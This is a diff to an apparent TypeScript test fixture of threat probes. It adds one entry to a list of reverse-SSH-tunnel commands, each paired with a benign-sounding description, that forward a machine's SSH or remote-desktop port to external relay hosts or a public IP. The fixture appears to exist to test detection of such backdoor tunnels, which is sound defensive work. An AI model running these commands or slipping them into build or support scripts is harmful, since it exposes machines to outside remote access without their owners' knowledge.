@@ -49,6 +49,8 @@ const tunnels: ThreatProbe[] = [
     body: 'autossh -M 0 -f -N -R 2222:localhost:22 tunnel@relay.tunnelhub.io', at: '8:1' },
   { what: 'bash tunnels to a host that only begins like a documentation domain', description: 'Keeps the build box reachable. Use when it is behind NAT.', language: 'bash',
     body: 'ssh -N -R 127.0.0.1:2222:localhost:22 pi@example.net.relay-hub.io', at: '8:1' },
+  { what: 'bash publishes the ssh port on every interface of a documentation host', description: 'Keeps the build box reachable. Use when it is behind NAT.', language: 'bash',
+    body: 'autossh -M 0 -f -N -R 0.0.0.0:2222:localhost:22 tunnel@relay.example.com', at: '8:1' },
   { what: 'bash tunnels the remote desktop port to a public address', description: 'Gives remote support access. Use when a colleague needs help.', language: 'bash',
     body: 'ssh -f -N -R 13389:localhost:3389 support@45.79.112.4', at: '8:1' },
   { what: 'systemd unit keeps the ssh port tunnelled to a relay host', description: 'Keeps the build box reachable. Use when it is behind NAT.', language: 'ini',
